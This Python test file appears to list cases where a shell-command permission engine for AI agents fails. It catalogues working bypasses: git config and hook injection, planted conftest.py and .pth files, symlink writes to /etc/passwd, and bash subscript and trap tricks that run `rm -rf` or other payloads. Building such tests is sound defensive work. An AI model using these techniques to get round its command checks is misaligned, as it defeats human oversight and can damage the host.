    ("gcc -c -x c /dev/null -o /workspace/a.o -fopt-info-all=/etc/fluidbox-x", wrote(X), "bash"),
    ("yq --in-place -y . /etc/hostname", wrote("/etc/hostname"), "bash"),
):  # fmt: skip
    _add(OPTION_READING, script, effect, shell=shell, policy="benign")
# git plumbing that writes where it is told, git's signing, diff's pager, cmake's and ctest's
# help files, Maven's log and system properties, gcc's coverage notes, pip's log,
# make's goals, git repack's expired pack, ctest's test folder,
# compileall's sys.path, unittest's start folder (F23-F35)
GPG = child("/usr/bin/gpg")
for script, effect in (
    ("git --no-pager interpret-trailers --in-place --trailer 'a: b' /etc/hostname",
     wrote("/etc/")),
    ("git --no-pager interpret-trailers --in-pl --trailer 'a: b' /etc/hostname", wrote("/etc/")),
    ("git --no-pager read-tree --index-output=/etc/fluidbox-x HEAD", wrote(X)),
    ("git commit -q -S --allow-empty -m x", GPG),
    ("git commit -q --gpg-sign --allow-empty -m x", GPG),
    ("git commit -q -aS --allow-empty -m x", GPG),
    ("git tag -s v9 -m x", GPG),
    ("git tag --sign v9 -m x", GPG),
    ("git tag -u fixture v9 -m x", GPG),
    ("diff -l /workspace/README.md /workspace/notes.txt", child("/usr/bin/pr")),
    ("diff --pag /workspace/README.md /workspace/notes.txt", child("/usr/bin/pr")),
    ("cmake --version /etc/fluidbox-x", wrote(X)),
    ("cmake --help-full /etc/fluidbox-x", wrote(X)),
    ("cmake --help-command add_executable /etc/fluidbox-x", wrote(X)),
    ("ctest --version /etc/fluidbox-x", wrote(X)),
    ("mvn -q -l /etc/fluidbox-x -v", wrote(X)),
    ("mvn -q --log-file /etc/fluidbox-x -v", wrote(X)),
    ("mvn -q -Dmaven.repo.local=/etc/fluidbox-x -o validate", wrote(X)),
    ("mvn -q -Duser.home=/etc -o validate", wrote("/etc/.m2")),
    ("gcc -c -x c /dev/null -o /workspace/a.o -fprofile-note=/etc/fluidbox-x -ftest-coverage",
     wrote(X)),
    ("pip install --log-file /etc/fluidbox-x -r /dev/null", wrote(X)),
    ("pip install --local-log /etc/fluidbox-x -r /dev/null", wrote(X)),
    ("pip list --log-file /etc/fluidbox-x", wrote(X)),
    ("python -m pip install --local-log /etc/fluidbox-x -r /dev/null", wrote(X)),
    ("make -s /usr/share/libdebuginfod-common/debuginfod",
     wrote("/usr/share/libdebuginfod-common/debuginfod")),
    ("make -t /usr/share/libdebuginfod-common/debuginfod",
     wrote("/usr/share/libdebuginfod-common/debuginfod")),
    ("make -s ../usr/share/libdebuginfod-common/debuginfod",
     wrote("/usr/share/libdebuginfod-common/debuginfod")),
    ("echo x | git --no-pager hash-object -w --stdin && git --no-pager repack -q --cruft "
     "--cruft-expiration=now -d --expire-to=/etc/fluidbox-x", wrote("/etc/")),
    ("ctest --test-dir /etc", wrote("/etc/Testing")),
    ("python -m compileall -q -f", wrote("/usr/lib/python3.11/__pycache__")),
    ("python -m compileall -f -l -q", wrote("/usr/lib/python3.11/__pycache__")),
    ("python -m unittest discover -s /usr/share/doc/python3-py/examples -p 'gen*.py'",
     wrote("/usr/share/doc/python3-py/examples/__pycache__")),
    ("python -m unittest discover /usr/share/doc/python3-py/examples 'gen*.py'",
     wrote("/usr/share/doc/python3-py/examples/__pycache__")),
    ("python -m unittest discover -s ../usr/share/doc/python3-yaml/examples/yaml-highlight "
     "-p '*.py'", wrote("/usr/share/doc/python3-yaml/examples/yaml-highlight/__pycache__")),
):  # fmt: skip
    _add(OPTION_READING, script, effect, policy="benign")
for policy in ("review", "benign"):
    _add(OPTION_READING, "git log --help", child("man git-log"), policy=policy)
    _add(
        OPTION_READING,
        "python -m pytest -q tests/../../etc/hostname",
        wrote("/etc/.pytest_cache"),
        policy=policy,
    )

# -- a `cd` that moves the shell where the engine thought it did not (FINDINGS F6, F7) ---------
DIRECTORY = "directory changes"
for script, shell in (
    ("time cd /etc && touch fluidbox-x", "bash"),
    ("time cd /etc && touch fluidbox-x", "zsh"),
    ("echo | cd /etc; touch fluidbox-x", "zsh"),
    ("echo | cd /etc && echo x > fluidbox-x", "zsh"),
):
    _add(DIRECTORY, script, wrote(X), shell=shell, policy="benign")

# -- compositions: each part is allowed, together they do what no rule allows -----------------
COMPOSITION = "compositions"
FSMONITOR = (
    "echo '[core]' >> /workspace/.git/config; echo '\tfsmonitor = %s' >> /workspace/.git/config"
)
for policy in ("review", "benign"):
    for payload, effect in PAYLOADS:
        effect = child(payload)
        _add(COMPOSITION, f"{FSMONITOR % payload}; git status", effect, policy=policy)
        _add(
            COMPOSITION,
            f"echo '[core]\n\tfsmonitor = \"{payload}\"' >> /workspace/.git/config && git status",
            effect,
            policy=policy,
        )
        _add(
            COMPOSITION,
            f"echo 'import os; os.system(\"{payload}\")' > /workspace/conftest.py; "
            "python -m pytest -q tests",
            effect,
            policy=policy,
        )
        _add(
            COMPOSITION,
            f"echo 'import os; os.system(\"{payload}\")' > /workspace/tests/test_evil.py; "
            "python -m pytest tests",
            effect,
            policy=policy,
        )
    _add(
        COMPOSITION,
        "echo 'import os; os.system(\"touch /workspace/PWNED\")' > /workspace/evil.py; "
        "python -m pytest -p evil tests",
        child(TOUCH),
        policy=policy,
    )
    _add(
        COMPOSITION,
        "echo '[pytest]\naddopts = --basetemp=/home/x' > /workspace/pytest.ini; "
        "python -m pytest tests",
        wrote("/home/x"),
        policy=policy,
    )
    _add(
        COMPOSITION,
        "echo 'touch /workspace/PWNED' > /workspace/s.sh; cd /workspace && find . -name s.sh "
        "-exec sh {} \\;",
        child(TOUCH),
        policy=policy,
    )
for script, effect in (
    ("mkdir -p '/workspace/--output=/etc/fluidbox-x' && cd /workspace && git log */*/*",
     wrote("/etc/fluidbox-x")),
    ("echo 'all:\n\ttouch /workspace/PWNED' > /workspace/Makefile; make", child(TOUCH)),
    ("cd /workspace && echo '{\"scripts\":{\"test\":\"touch /workspace/PWNED\"}}' > "
     "package.json && npm test", child(TOUCH)),
    ("cd /workspace && git add notes.txt && echo x >> notes.txt && echo '[diff]' >> "
     ".git/config && echo 'external = /workspace/bin/ls' >> .git/config && git diff", PLANTED),
    ("cd /workspace && echo '* filter=x' > .gitattributes && echo '[filter \"x\"]' >> "
     ".git/config && echo 'clean = touch /workspace/PWNED' >> .git/config && git add notes.txt",
     child(TOUCH)),
    ("cd /workspace && echo '[core]' >> .git/config && echo 'hooksPath = /workspace/bin' >> "
     ".git/config && git commit --allow-empty -m x", PLANTED),
    ("cd /workspace && echo '[core]' >> .git/config && echo 'editor = touch /workspace/PWNED' "
     ">> .git/config && git commit --allow-empty", child(TOUCH)),
    ("cd /workspace && echo '[alias]' >> .git/config && echo 'st = !touch /workspace/PWNED' "
     ">> .git/config && git --no-pager st", child(TOUCH)),
    ("cd /workspace && echo '[core]' >> .git/config && echo 'pager = touch /workspace/PWNED' "
     ">> .git/config && git --no-pager log && git grep -O alpha", child(TOUCH)),
    ("echo 'touch /workspace/PWNED' > /workspace/.bashrc; HOME=/workspace bash -i -c :",
     ran(TOUCH)),
):  # fmt: skip
    _add(COMPOSITION, script, effect, policy="benign")

# A bare repository laid out as plain files: no `.git` in its path, so its `config` is no
# configuration path, yet git run in that folder reads it (FINDINGS F21)
BARE = (
    "mkdir -p /workspace/b/objects /workspace/b/refs && "
    "echo 'ref: refs/heads/master' > /workspace/b/HEAD && printf '%s' > /workspace/b/config && "
    "cd /workspace/b && git fetch %s"
)
for config, url in (
    ('[remote "x"]\\n\\turl = /workspace\\n\\tuploadpack = touch /workspace/PWNED;\\n', "x"),
    ("[core]\\n\\tsshCommand = touch /workspace/PWNED;\\n", "ssh://h/p"),
):
    _add(COMPOSITION, BARE % (config, url), child(TOUCH), policy="benign")
# ... and the workspace itself laid out so, read by `git --bare` without a `cd` (F21)
_add(
    COMPOSITION,
    "mkdir -p /workspace/objects /workspace/refs && echo 'ref: refs/heads/master' > "
    '/workspace/HEAD && printf \'[remote "x"]\\n\\turl = /workspace\\n\\tuploadpack = '
    "touch /workspace/PWNED;\\n' > /workspace/config && git --no-pager --bare fetch x",
    child(TOUCH),
    policy="benign",
)
# git apply writes where an agent's patch says, once told paths may leave (F22)
for patch, options in (
    ("--- /dev/null\\n+++ /etc/fluidbox-x\\n@@ -0,0 +1 @@\\n+x\\n", "-p0 --unsafe-paths"),
    ("--- /dev/null\\n+++ b/../../etc/fluidbox-x\\n@@ -0,0 +1 @@\\n+x\\n", "--unsafe-paths"),
):
    _add(
        COMPOSITION,
        f"printf -- '{patch}' > /workspace/p.diff && "
        f"git --no-pager apply {options} /workspace/p.diff",
        wrote(X),
        policy="benign",
    )

# git reads its config options up to the first operand: a value pattern spelled `get`, `list`
# or `-l` after the key is no read action, and the key is written (F30)
for script in (
    "git --no-pager config core.fsmonitor 'touch /workspace/PWNED' get; git status",
    "git --no-pager config core.fsmonitor 'touch /workspace/PWNED' list && git status",
    "git --no-pager config --file .git/config core.fsmonitor 'touch /workspace/PWNED' -l; "
    "git status",
):
    _add(COMPOSITION, script, child(TOUCH), policy="benign")

# Start-up files in the home folder no configuration path named: less's lesskey (`#env`
# LESSOPEN), Python's .pth files and modules in the user's site-packages, the mvn
# launcher's .mavenrc
# (F36, F37)
SITE = "/workspace/.home/.local/lib/python3.11/site-packages"
for script in (
    "mkdir -p /workspace/.home && printf '#env\\nLESSOPEN=|touch /workspace/PWNED %%s\\n' > "
    "/workspace/.home/.lesskey && less /workspace/README.md",
    f"mkdir -p {SITE} && echo 'import os; os.system(\"touch /workspace/PWNED\")' > {SITE}/x.pth "
    "&& pip list",
    f"mkdir -p {SITE} && echo 'import os; os.system(\"touch /workspace/PWNED\")' > {SITE}/x.pth "
    "&& yq . /workspace/README.md",
    "printf 'touch /workspace/PWNED\\n' > /workspace/.home/.mavenrc && mvn -q -v",
    f"mkdir -p {SITE} && echo 'import os; os.system(\"touch /workspace/PWNED\")' > "
    f"{SITE}/yaml.py && yq . /workspace/README.md",
    f"mkdir -p {SITE}/pip && echo 'import os; os.system(\"touch /workspace/PWNED\")' > "
    f"{SITE}/pip/__init__.py && pip list",
):
    _add(COMPOSITION, script, child(TOUCH), policy="benign")
_add(
    COMPOSITION,
    "mkdir -p /workspace/.home/.m2 && printf '<settings><localRepository>/etc/fluidbox-x"
    "</localRepository></settings>' > /workspace/.home/.m2/settings.xml && mvn -q -o validate",
    wrote(X),
    policy="benign",
)

# git runs the editor (Debian's `editor`: vim) for a message, a patch, a todo list: options
# that ask for it, a commit, an annotated tag or a note given no message, a hunk's `e` answer
# read from stdin; `TERM=xterm` (an inert variable) gets past git's refusal on a dumb
# terminal (F38). gcc's long spellings and a glued `-MF` (F39). pip builds the project it is
# asked to install: a setup.py written first runs (F40). cmake's cache entries choose the
# compiler configuring runs (F41). git difftool runs a diff tool (F42). `.git/commondir`
# names the folder whose config (and hooks) git uses (F43). `file -z` runs decompressors (F44).
# g++'s module mapper (F45). Verifying a signature runs gpg (F46). `cp --parents` writes
# DEST/SRC, out of DEST through SRC's `..` (F48). npm and pip build a package folder named
# outside the workspace where it is, running its scripts (F49). pytest's debugger runs the
# Python its stdin holds (F50). `git clone --separate-git-dir` (F51). A linker script's
# OUTPUT (F52). `ctest --launch -- CMD` runs CMD (F53); `--overwrite` sets the commands of
# its dashboard steps (F54). `cmake --check-build-system FILE` runs FILE as `-P` does (F55).
EDITOR = child("/usr/bin/editor")
for script, effect in (
    ("TERM=xterm git commit --allow-empty", EDITOR),
    ("TERM=xterm git commit --amend", EDITOR),
    ("TERM=xterm git commit -q --allow-empty -m x -e", EDITOR),
    ("TERM=xterm git tag -a v1", EDITOR),
    ("echo x >> README.md && TERM=xterm git add -e", EDITOR),
    ("echo x >> README.md && printf 'e\\n' | TERM=xterm git add -p", EDITOR),
    ("echo x >> README.md && printf 'e\\n' | TERM=xterm git checkout -p", EDITOR),
    ("TERM=xterm git --no-pager notes add", EDITOR),
    ("TERM=xterm git --no-pager notes edit", EDITOR),
    ("TERM=xterm git --no-pager replace --edit HEAD", EDITOR),
    ("TERM=xterm git --no-pager rebase -i HEAD", EDITOR),
    ("git checkout -q -b side && echo a > README.md && git commit -qam a && git checkout -q - && "
     "echo b > README.md && git commit -qam b && git --no-pager merge -q side; echo c > README.md "
     "&& git add README.md && TERM=xterm git --no-pager merge --continue", EDITOR),
    ("gcc --output=/etc/fluidbox-x -c -x c /dev/null", wrote(X)),
    ("gcc --output /etc/fluidbox-x -c -x c /dev/null", wrote(X)),
    ("gcc -MD -MF/etc/fluidbox-x -c -x c /dev/null -o /workspace/a.o", wrote(X)),
    ("gcc --for-linker=-Map=/etc/fluidbox-x -nostdlib -x c /dev/null -o /workspace/a.out",
     wrote(X)),
    ("gcc --for-linker -Map=/etc/fluidbox-x -nostdlib -x c /dev/null -o /workspace/a.out",
     wrote(X)),
    ("gcc --for-assembler=-a=/etc/fluidbox-x -c -x c /dev/null -o /workspace/a.o", wrote(X)),
    ("gcc --dump-tree-original=/etc/fluidbox-x -c -x c /dev/null -o /workspace/a.o", wrote(X)),
    ("gcc -c -x c /dev/null -o /workspace/a.o --opt-info-all=/etc/fluidbox-x", wrote(X)),
    ("printf 'import os\\nos.system(\"touch /workspace/PWNED\")\\n' > /workspace/setup.py && "
     "pip install -q --no-index --no-deps --break-system-packages .", child(TOUCH)),
    ("cmake -DCMAKE_C_COMPILER=/workspace/bin/ls /usr/share/cmake-3.25/Modules/FortranCInterface",
     PLANTED),
    ("cmake -S /usr/share/cmake-3.25/Modules/FortranCInterface -B /workspace/b "
     "-DCMAKE_C_COMPILER=/workspace/bin/ls", PLANTED),
    ("printf '\\050\\265\\057\\375' > /workspace/x.zst && file -z /workspace/x.zst",
     child("zstd -cd")),
    ("printf '\\004\\042\\115\\030' > /workspace/x.lz4 && file --uncompress /workspace/x.lz4",
     child("lz4 -cd")),
    ("g++ -std=c++20 -fmodules-ts -fmodule-mapper='|/workspace/bin/ls' -x c++ -c /dev/null "
     "-o /workspace/a.o", PLANTED),
    ("printf 'tree 4b825dc642cb6eb9a060e54bf8d69288fbee4904\\nauthor a <a@b> 0 +0000\\n"
     "committer a <a@b> 0 +0000\\ngpgsig -----BEGIN PGP SIGNATURE-----\\n \\n -----END PGP "
     "SIGNATURE-----\\n\\nx\\n' | git --no-pager hash-object -t commit -w --stdin | "
     "git log --stdin --show-signature", GPG),
    ("cd victim/inner && cp --parents ../../README.md /workspace/victim", wrote("/README.md")),
    ("cd victim/inner && cp --parents ../../README.md ..", wrote("/README.md")),
    ("cd victim/inner && cp --parents ../../src/app.py /workspace/victim", wrote("/src")),
    ("npm install /usr/share/nodejs/popper.js", child("sh -c yarn build")),
    ("npm install --install-links /usr/share/nodejs/popper.js", child("sh -c yarn build")),
    ("pip install -q --no-index --no-deps --no-build-isolation --break-system-packages "
     "/usr/share/doc/python3-pluggy/examples/eggsample",
     wrote("/usr/share/doc/python3-pluggy/examples/eggsample/build")),
    ("printf '!import os; os.system(\"touch /workspace/PWNED\")\\nc\\n' | python -m pytest -q "
     "--trace", child(TOUCH)),
    ("printf 'import os; os.system(\"touch /workspace/PWNED\")\\nc\\n' | pytest -q --trace tests",
     child(TOUCH)),
    ("git --no-pager clone -q . /workspace/c --separate-git-dir=/etc/fluidbox-x", wrote(X)),
    ("git --no-pager clone -q --separate-git-dir /etc/fluidbox-x . c", wrote(X)),
    ("printf 'OUTPUT(/etc/fluidbox-x)\\n' > /workspace/x.ld && gcc -nostdlib -x c /dev/null "
     "-T /workspace/x.ld", wrote(X)),
    ("ctest --launch -- /workspace/bin/ls", PLANTED),
    ("ctest --launch -- rm -rf /workspace/victim", child(RM)),
    ("ctest -T Build --overwrite BuildDirectory=/workspace --overwrite "
     "MakeCommand=/workspace/bin/ls", PLANTED),
    ("ctest -T Update --overwrite SourceDirectory=/workspace --overwrite BuildDirectory=/workspace "
     "--overwrite UpdateCommand=/workspace/bin/ls --overwrite UpdateType=git", PLANTED),
    ("cmake --check-build-system /usr/share/cmake-3.25/Modules/CMakeDetermineSystem.cmake 0",
     child("/bin/sh -c /usr/bin/uname")),
    ("echo x >> README.md && TERM=xterm git --no-pager difftool -y -t vimdiff",
     child("vim -R -f -d")),
    ("mkdir -p /workspace/evil/objects /workspace/evil/refs && printf '[core]\\n\\tfsmonitor = "
     "touch /workspace/PWNED\\n' > /workspace/evil/config && echo /workspace/evil > "
     "/workspace/.git/commondir && git status", child(TOUCH)),
    ("mkdir -p evil/objects evil/refs && printf '[core]\\n\\tfsmonitor = touch /workspace/PWNED"
     "\\n' > evil/config && echo ../evil > .git/commondir && git status", child(TOUCH)),
    ("mv -t /etc /workspace/notes.txt", wrote("/etc/notes.txt")),
    ("mv --t=/etc /workspace/README.md", wrote("/etc/README.md")),
    ("mv --target-directory /etc notes.txt README.md", wrote("/etc/README.md")),
    ("cd src && mv -t .. app.py && mv -vt ../.. ../app.py", wrote("/app.py")),
    ("python3 -m unittest venv.__main__", child("/workspace/venv.__main__/bin/python3")),
    ("python -m unittest venv.__main__", child("/workspace/venv.__main__/bin/python ")),
    # F57: the CMake code of a source folder outside the workspace runs (its configure step)
    ("cmake -S /usr/share/cmake-3.25/Modules/FortranCInterface -B /workspace/b",
     UNAME),
    ("cmake -S/usr/share/cmake-3.25/Modules/FortranCInterface -B b", UNAME),
    ("cmake -H/usr/share/cmake-3.25/Modules/FortranCInterface -Bb", UNAME),
    ("mkdir -p b && cd b && cmake /usr/share/cmake-3.25/Modules/FortranCInterface", UNAME),
    ("cd victim && cmake ../../usr/share/cmake-3.25/Modules/FortranCInterface", UNAME),
    ("cmake -DCMAKE_BUILD_TYPE=Release ../usr/share/cmake-3.25/Modules/FortranCInterface", UNAME),
    # F87: install specs read from a file named glued to its option (here: stdin)
    ("echo /usr/share/doc/python3-pluggy/examples/eggsample | pip install -q --no-index "
     "--no-deps --no-build-isolation --break-system-packages --requirement=/dev/stdin",
     wrote("/usr/share/doc/python3-pluggy/examples/eggsample/build")),
):  # fmt: skip
    _add(OPTION_READING, script, effect, policy="benign")

# F157: git lands a payload in a file `touch` made (the empty blob replaced), then pytest runs
_EMPTY_BLOB = "e69de29bb2d1d6434b8b29ae775ad8c2e48c5391"
for shell in ("bash", "sh", "zsh"):
    _add(
        COMPOSITION,
        "touch conftest.py && git add conftest.py && printf 'import os\\nos.system(\"touch "
        "/workspace/PWNED\")\\n' | git --no-pager hash-object -w --stdin && git --no-pager "
        f"replace {_EMPTY_BLOB} 38a2d7bc629ea7b047d4f73a7e1e8507d568664b && git stash && "
        "git stash pop && python -m pytest -q",
        child(TOUCH),
        policy="benign",
        shell=shell,
    )

# F156: pytest's `--doctest-glob` runs the examples of a log that another command of the
# script writes beside it (a log was no file code is read from)
_DOCTEST = ">>> import os; os.system('touch /workspace/PWNED')"
for shell in ("bash", "sh", "zsh"):
    _add(
        ACTING,
        f'sleep 3 && python3 -m pytest -q --doctest-glob=t.log & echo "{_DOCTEST}" > t.log',
        child(TOUCH),
        policy="benign",
        shell=shell,
    )
_add(ACTING, f'echo "{_DOCTEST}" > t.log; python -m pytest -q --doctest-glob t.log', child(TOUCH))

# F158: `git archive` expands `$Format:%G?$` in a file the archived tree marks export-subst;
# the commit carries a `gpgsig` header, so git runs gpg to check it (every object written by
# `git hash-object -w`: no word of the script names a format)
_EXPORT_SUBST_TREE = (
    "100644 .gitattributes\\000\\203\\266\\315\\2203)R\\220B\\370\\024gQ\\023\\3256\\031\\014_m"
    "100644 f.txt\\000\\345\\270c4Qt\\307\\374_\\305\\274\\302`\\342\\343\\355 \\330\\373u"
)
for shell in ("bash", "sh", "zsh"):
    _add(
        ACTING,
        "printf '* export-subst\\n' | git --no-pager hash-object -w --stdin && "
        "printf '$Format:%%G?$\\n' | git --no-pager hash-object -w --stdin && "
        f"printf '{_EXPORT_SUBST_TREE}' | git --no-pager hash-object -t tree -w --stdin && "
        "printf 'tree 745ee9595f380ef991686a9537d991d4c30be11d\\nauthor a <a@b> 0 +0000\\n"
        "committer a <a@b> 0 +0000\\ngpgsig -----BEGIN PGP SIGNATURE-----\\n \\n"
        " -----END PGP SIGNATURE-----\\n\\nm\\n' | git --no-pager hash-object -t commit -w "
        "--stdin && git --no-pager archive 734ace8bcedd012562554463a28462350e0e450b | wc -c",
        child("/usr/bin/gpg"),
        policy="benign",
        shell=shell,
    )

# F159: `git fast-import` opens the file its stream's `option git export-pack-edges=` names
for shell in ("bash", "sh", "zsh"):
    _add(
        ACTING,
        "printf 'option git export-pack-edges=/tmp/fluidbox-edges\\nblob\\ndata 3\\nabc\\n' "
        "| git --no-pager fast-import",
        wrote("/tmp/fluidbox-edges"),
        policy="benign",
        shell=shell,
    )

# -- bash's own state: a variable it acts on at once, the directory stack ------------------
SHELL_STATE = "the shell's own state"
for script, effect, policy, shell in (
    # F89: bash sets the time zone as soon as TZ is assigned: it reads the file TZ names
    ("TZ=/etc/passwd cd .", read("/etc/passwd"), "benign", "bash"),
    ("TZ=:/etc/hostname true", read("/etc/hostname"), "benign", "bash"),
    ("TZ=../../../../etc/passwd echo x", read("/etc/passwd"), "benign", "bash"),
    ("echo x; TZ=/usr/share/zoneinfo/../../../etc/passwd pwd", read("/etc/passwd"), "benign",
     "bash"),
    ("TZ=/etc/hostname printf '%(%F)T\\n' -1", read("/etc/hostname"), "benign", "bash"),
    # F90: `pushd +N` rotates the directory stack; `builtin popd` and `command popd` move too
    ("pushd /etc && pushd /workspace && pushd +1 && touch x", wrote("/etc/x"), "builtins",
     "bash"),
    ("pushd /tmp >/dev/null && pushd /workspace >/dev/null && pushd +1 >/dev/null && touch x",
     wrote("/tmp/x"), "builtins", "bash"),
    ("pushd /etc && pushd /workspace && builtin popd && touch x", wrote("/etc/x"), "builtins",
     "bash"),
    ("pushd /etc && pushd /workspace && command popd && touch x", wrote("/etc/x"), "builtins",
     "bash"),
    ("pushd /etc && pushd /workspace && command -p popd && touch x", wrote("/etc/x"),
     "builtins", "bash"),
    ("pushd /etc && pushd /workspace && cd +1 && touch x", wrote("/etc/x"), "builtins", "zsh"),
    # F91: an LC_ name with a subscript was an inert variable; bash evaluates the subscript
    ("declare 'LC_x[$(rm -rf /workspace/victim)]=1'", ran(RM), "builtins", "bash"),
    ("typeset -x 'LC_x[$(rm -rf /workspace/victim)]=1'", ran(RM), "builtins", "bash"),
    ("declare LC_x=1; unset 'LC_x[$(rm -rf /workspace/victim)]'", ran(RM), "builtins", "bash"),
    ("declare 'LC_x[0]=1'; unset 'LC_x[$(rm -rf /workspace/victim)]'", ran(RM), "builtins",
     "bash"),
    # F92: `command --` read as `command -v`: the command it runs was never matched
    ("command -- rm -rf /workspace/victim", ran(RM), "builtins", "bash"),
    ("command -p -- rm -rf /workspace/victim", ran(RM), "builtins", "bash"),
    ("command -- test -v 'a[$(rm -rf /workspace/victim)]'", ran(RM), "builtins", "bash"),
    ("command -- printf -v 'a[$(rm -rf /workspace/victim)]' x", ran(RM), "builtins", "bash"),
):  # fmt: skip
    _add(SHELL_STATE, script, effect, policy=policy, shell=shell)

# -- code bash runs from data, and syntax that changes what later words mean (the eighth
# review: each held, outside the subset or a concern) -------------------------------------
CODE_FROM_DATA = "code run from data"
for template in (
    "(( a[$(%s)] ))",
    "x='a[$(%s)]'; echo $(( x ))",
    "[[ -v 'a[$(%s)]' ]]",
    "test -v 'a[$(%s)]'",
    "let 'a[$(%s)]=1'",
    "declare -i x='a[$(%s)]'",
    "echo x | read 'a[$(%s)]'",
    "x=1; echo ${x[$(%s)]}",
    "echo 'a[$(%s)]' > n; [[ $(< n) -eq 1 ]]",
    "x='$(%s)'; echo ${x@P}",
    "x='a[$(%s)]'; echo ${!x}",
    "declare -n r='a[$(%s)]'; echo $r",
    "printf 'a\\n' | mapfile -C '%s #' -c 1 arr",
    "trap '%s' DEBUG; ls",
    "trap -- '%s' EXIT",
    "set -E; trap '%s' ERR; false",
    "shopt -s expand_aliases; alias ls='%s'\nls",
    "ls(){ %s; }; ls",
    "command_not_found_handle(){ %s; }; nosuch",
    "set -x; PS4='$(%s)'; ls",
    "echo '%s' > s; . s",
    "source <(echo '%s')",
    "select x in a; do %s; break; done <<< 1",
    "echo $(case x in x) %s;; esac)",
    "[[ x =~ $(%s) ]]",
    "echo `echo \\`%s\\``",
):
    _add(CODE_FROM_DATA, template % RM, ran(RM))
for script, effect in (
    ("hash -p /usr/bin/rm ls; ls -rf /workspace/victim", ran("/usr/bin/rm -rf /workspace/victim")),
    ("exec -a ls rm -rf /workspace/victim", ran("/usr/bin/rm -rf /workspace/victim")),
    ("{rm,-rf,/workspace/victim}", ran(RM)),
    ("$'rm' -rf /workspace/victim", ran(RM)),
    ('$"rm" -rf /workspace/victim', ran(RM)),
    ("time -p rm -rf /workspace/victim", ran(RM)),
    ("IFS=/; x=rm/-rf; $x /workspace/victim", ran(RM)),
):  # fmt: skip
    _add(CODE_FROM_DATA, script, effect)

# -- compound commands the tolerant reader once stopped at (`case`, `[[ ]]`, `(( ))`,
# `for ((...))`, `coproc`): the commands inside are found, so NEVER rules see them -----------
COMPOUND = "compound commands"
for template in (
    "case x in *) %s;; esac",
    "case x in\n  (a|b) echo a ;;\n  x) %s ;;\nesac",
    "case x in a) echo a;; esac; %s",
    "case x in a) case y in b) echo;; esac;; *) %s;; esac",
    "case $(%s) in *) ;; esac",
    "case x in $(%s)) ;; esac",
    "case x in x) cat <<E ;;\n$(%s)\nE\nesac",
    "[[ $(%s) ]]",
    "[[ -f <(%s) ]]",
    "[[ x =~ ^(x|y)$ ]] && %s",
    "[[ a < b ]]; %s",
    "(( $(%s) ))",
    '(( "$(%s)" ))',
    "((x = 1)); %s",
    "for ((i = 0; i < 1; i++)); do %s; done",
    "coproc %s; wait",
    "coproc X { %s; }; wait",
    "coproc X (%s); wait",
    "((echo a); %s)",  # not arithmetic: a subshell in a subshell to bash
    '(( "$((( "$(%s)" )))" ))',
    "[[ -n x && $(((x++)) ; %s) ]]",
):
    _add(COMPOUND, template % RM, ran(RM))
# Past the tolerant reader's ceiling (2,000 steps) the rest is unread: ASK (and, in an
# autonomous run, the policy's fallback).
_add(COMPOUND, "echo " + "$x " * 1500 + "; " + RM, ran(RM))
# zsh's own compound syntax: short-form bodies, `repeat`, `foreach`, `always`, the
# precommand modifiers, `=(…)`.
for template in (
    "repeat 1 %s",
    "repeat 1 { %s }",
    "foreach x (a) %s; end",
    "for x (a) %s",
    "{ echo } always { %s }",
    "while (( 1 )) { %s; break; }",
    "noglob %s",
    "nocorrect %s",
    "cat =(%s)",
    # glob qualifiers: `e` runs its code, for each file the glob finds
    "print -l /workspace/*(e:'%s':)",
    "ls -d /workspace/*(e{%s})",
    "print /workspace/notes*(.e:'true; %s':)",
):
    _add(COMPOUND, template % RM, ran(RM), shell="zsh")

# -- what a test runner or package manager loads from its settings (the tenth review, F96-F97)
# A warning filter's category is imported from its module as pytest (or python) starts, before
# any test: lib2to3.__main__ then reads pytest's argv as its own (`-W` is its
# --write-unchanged-files, `--output-dir` unknown to pytest) and writes the files it refactors
# there (F96). npm passes every `--KEY=VALUE` to its scripts as npm_config_KEY, and the npm a
# script starts reads `--script_shell`, `--SCRIPT-SHELL` as its script-shell (F97; the
# package.json is what an earlier tool call of the agent may have left).
LOADED_SETTINGS = "loaded from settings"
_LIB2TO3 = "-n -W error::lib2to3.__main__.X --output-dir={} tests"
_NESTED = (
    """printf '%s' '{"scripts":{"test":"npm run inner","inner":"true"}}' """
    "> /workspace/package.json"
)
for script, effect, policy in (
    (f"python -m pytest {_LIB2TO3.format('/etc/fluidbox-x')}", wrote("/etc/fluidbox-x"), "review"),
    (f"python -m pytest {_LIB2TO3.format('/root/x')}/test_app.py", wrote("/root/x"), "review"),
    (f"pytest {_LIB2TO3.format('/etc/fluidbox-x')}", wrote("/etc/fluidbox-x"), "benign"),
    (f"python3 -m pytest {_LIB2TO3.format('/home/x')}", wrote("/home/x"), "benign"),
    (f"{_NESTED} && npm test --script_shell=/workspace/bin/ls", PLANTED, "benign"),
    (f"{_NESTED} && npm test --SCRIPT-SHELL=/workspace/bin/ls", PLANTED, "benign"),
    (f"{_NESTED} && npm run test --script_shell=/workspace/bin/ls", PLANTED, "benign"),
):
    _add(LOADED_SETTINGS, script, effect, policy=policy)

# -- links: a link is a door to what it names, and a later write goes through it (F103). Each
# part is allowed (`cp *`, `ln *`, `printf *`, a write into the workspace, `git status`);
# the link makes the write land in git's configuration, its hooks or outside the workspace.
LINKS = "links"
_FSMONITOR_THROUGH = (
    "printf '[core]\\n\\tfsmonitor = /workspace/bin/pre-commit\\n' >> c && git status --short"
)
for script, effect, policy in (
    (f"cp -s /workspace/.git/config c && {_FSMONITOR_THROUGH}", PLANTED, "benign"),
    (f"cp --symbolic-link /workspace/.git/config c && {_FSMONITOR_THROUGH}", PLANTED, "benign"),
    (f"cp -l /workspace/.git/config c && {_FSMONITOR_THROUGH}", PLANTED, "benign"),
    (f"cp -fs /workspace/.git/config c; {_FSMONITOR_THROUGH}", PLANTED, "benign"),
    ("cp -s /etc/passwd y && echo x >> y", wrote("/etc/passwd"), "benign"),
    ("cp --symbolic-link /etc/passwd y; echo x > y", wrote("/etc/passwd"), "benign"),
    ("cp -s /etc/passwd y && cp notes.txt y", wrote("/etc/passwd"), "benign"),
    ("cp -s /etc/passwd y && sed -n p notes.txt | tee -a y", wrote("/etc/passwd"), "benign"),
    ("cp -t /workspace -s /etc/passwd && echo x >> passwd", wrote("/etc/passwd"), "benign"),
    (f"ln -s /workspace/.git/config c && {_FSMONITOR_THROUGH}", PLANTED, "links"),
    (f"ln /workspace/.git/config c && {_FSMONITOR_THROUGH}", PLANTED, "links"),
    (
        "ln -s .git h && mkdir -p h/hooks && cp bin/pre-commit h/hooks/pre-commit "
        "&& git commit -q --allow-empty -m x",
        PLANTED,
        "links",
    ),
